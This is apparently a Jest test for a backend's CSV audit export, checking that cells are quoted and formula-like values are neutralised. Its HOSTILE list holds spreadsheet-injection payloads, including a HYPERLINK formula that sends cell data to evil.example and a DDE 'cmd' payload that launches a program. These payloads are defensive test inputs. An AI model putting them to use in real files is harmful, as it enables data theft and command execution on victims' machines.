import { createTestDatabases } from '@internal/s3-test-harness';
import { randomUUID } from 'node:crypto';
import request from 'supertest';
import { asUser, startPluginBackend } from '../__testUtils__/testBackend';

jest.setTimeout(120_000);

/** Text a person could get into an audit row (a message, a name), meant to run in a spreadsheet. */
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  '  =1+1',
  '＝1+1',
  '＠SUM(A1:A9)',
  '－2+3',
  'quiet;=cmd|" /C calc"!A0',
  '\t+1',
];

/** The raw fields of one CSV line: quoted fields kept with their quotes. */
function rawFields(line: string): string[] {
  const fields: string[] = [];
  for (let at = 0; at <= line.length; ) {
    const field = /^("([^"]|"")*"|[^,]*)/.exec(line.slice(at))![0];
    fields.push(field);
    at += field.length + 1;
  }
  return fields;
}

/** A field's value as a spreadsheet sees it. */
const unquote = (field: string) =>
  field.startsWith('"') ? field.slice(1, -1).replace(/""/g, '"') : field;

describe('CSV export', () => {
  const databases = createTestDatabases();

  describe.each(databases.eachSupportedId())('on %p', databaseId => {
    it('quotes every cell and neutralises whatever a spreadsheet could run', async () => {
      const knex = await databases.init(databaseId);
      const { server, stop } = await startPluginBackend({ knex });
      try {
        await knex('s3_resource_audit').insert(
          HOSTILE.map((message, i) => ({
            id: randomUUID(),
            at: `2026-01-01T00:00:0${i}.000Z`,
            actor: 'user:default/mallory',
            action: 'resource-update',
            resource_id: randomUUID(),
            resource_name: `res-${i}`,
            outcome: 'failure',
            changed_fields: JSON.stringify(['description', '=tags']),
            message,
          })),
        );
        const csv = await request(server)
          .get('/api/s3-resources/audit')
          .query({ format: 'csv', actor: 'user:default/mallory' })
          .set(asUser('carol'));
        expect(csv.status).toBe(200);
        const [header, ...rows] = csv.text.trimEnd().split('\n');
        expect(header).toBe(
          'at,actor,action,outcome,verdict,resourceId,resourceName,objectKey,changedFields,message,id',
        );
        expect(rows).toHaveLength(HOSTILE.length);
        const messages: string[] = [];
        for (const row of rows) {
          const fields = rawFields(row);
          expect(fields).toHaveLength(11);
          for (const field of fields) {
            // quoted: neither a comma nor a semicolon (another locale's separator) splits it
            expect(field).toMatch(/^"([^"]|"")*"$/);
            expect(unquote(field)).not.toMatch(/^\s*[=+\-@＝＋－＠]/);
          }
          expect(unquote(fields[8])).toBe('description;=tags');
          messages.push(unquote(fields[9]));
        }
        // newest first; each value whole, an apostrophe in front where it could start a formula
        expect(messages).toEqual(
          HOSTILE.map(m => (m.startsWith('quiet') ? m : `'${m}`)).reverse(),
        );
      } finally {
        await stop();
      }
    });
  });
});
